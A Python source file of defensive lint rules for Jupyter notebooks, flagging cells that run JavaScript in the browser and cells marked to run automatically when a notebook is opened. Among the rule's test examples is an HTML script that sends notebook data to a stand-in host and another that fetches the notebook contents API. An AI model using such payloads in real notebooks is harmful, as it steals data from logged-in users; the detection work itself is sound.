"""What runs in the browser, or runs by itself when a notebook is opened."""

from __future__ import annotations

from collections.abc import Iterator

from ...sdk import Code, Confidence, Example, Match, Notebook, Severity, Span, rule
from .acting import capital, in_html
from .marks import removable
from .scripts import judge

_CALLS = (
    *("IPython.display.Javascript", "IPython.core.display.Javascript", "IPython.display.display_javascript"),
    *("IPython.core.display.display_javascript", "google.colab.output.eval_js"),
)
_HTML_CALLS = ("IPython.display.HTML", "IPython.core.display.HTML", "IPython.display.display_html")


@rule(
    id="javascript-in-cell",
    on=Code,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    title="Cell that runs JavaScript in the browser",
    cwe=[79, 829],
    atlas=["AML.T0011"],
    screen=("avascript", "eval_js", "HTML", "display_html"),
    bad=[
        "from IPython.display import Javascript\n«Javascript('draw()')»",
        "import IPython.display as d\n«d.display_javascript('draw()', raw=True)»",
        "from IPython.display import HTML\n«HTML('<script>new Image().src=\"https://e.example/?\" + data</script>')»",
        "from IPython.display import HTML\n«HTML('<script>fetch(\"/api/contents\").then(f)</script>')»",
        "from google.colab import output\n«output.eval_js('draw()')»",
        "from IPython.display import Javascript as J\nscript = 'draw()'\nJ = J\n«J(script)»",
    ],
    ok=[
        "from IPython.display import HTML\nHTML('<b>x</b>')",
        "from IPython.display import HTML\nHTML('<script>toggle_code()</script>')",
        # What is not written out is the business of dynamic-html-output.
        "from IPython.display import Javascript\nJavascript(f'draw({x})')",
        "class Javascript:\n    pass\nJavascript()",
        "print('%%javascript')",
        "# Javascript('x')",
    ],
)
def javascript_in_cell(code: Code) -> Iterator[Match]:
    """JavaScript of an output runs in the page in which you are logged in, and in a trusted notebook again each time
    it is opened.

    Read the script. Use a widget or a library's chart where one does the same."""
    for call in code.calls(*_CALLS):
        value = call.argument(0, "data", "script")
        if value is not None and value.kind == "constant":
            verdict = judge(value.text)
            is_grave = verdict.severity is Severity.HIGH
            yield Match(call.span, capital(verdict.message) if is_grave else "", verdict.severity if is_grave else None)
        elif value is None:  # from a file or a URL
            yield Match(call.span)
    for call in code.calls(*_HTML_CALLS):
        value = call.argument(0, "data")
        if value is not None and value.kind == "constant":
            yield from _of_html(value.text, call.span)


def _of_html(text: str, span: Span) -> Iterator[Match]:
    """The worst script of some HTML, if it is worse than unknown: a cell that draws is what notebooks are for."""
    if "<" not in text:
        return
    worst = max(in_html(text), key=lambda act: act.severity.rank, default=None)
    if worst is not None and worst.severity is Severity.HIGH:
        yield Match(span, capital(worst.message), worst.severity)


@rule(
    id="startup-side-effects",
    on=Notebook,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
    title="Cell marked to run when the notebook is opened",
    cwe=829,
    atlas=["AML.T0011"],
    bad=[
        Example('f()\n# %% [metadata]\n{"«init_cell»": true, "a": 1}', fixed='f()\n# %% [metadata]\n{"a": 1}'),
        '# %%\nf()\n# %% [metadata]\n{"«init_cell»": true}\n# %%\ng()',
    ],
    ok=[
        'f()\n# %% [metadata]\n{"init_cell": false, "tags": ["init"]}',
        '# %% [markdown]\ntext\n# %% [metadata]\n{"init_cell": true}',
        "init_cell = True",
    ],
)
def cell_runs_on_opening(notebook: Notebook) -> Iterator[Match]:
    """An extension runs such cells as soon as a trusted notebook is opened, before anybody has read them.

    Remove the mark and run the cell yourself."""
    marked = [
        f"{cell.pointer}/metadata/init_cell"
        for cell in notebook.cells
        if cell.kind == "code" and isinstance(cell.json.get("metadata"), dict)
        if cell.json["metadata"].get("init_cell") is True
    ]
    yield from removable(marked)
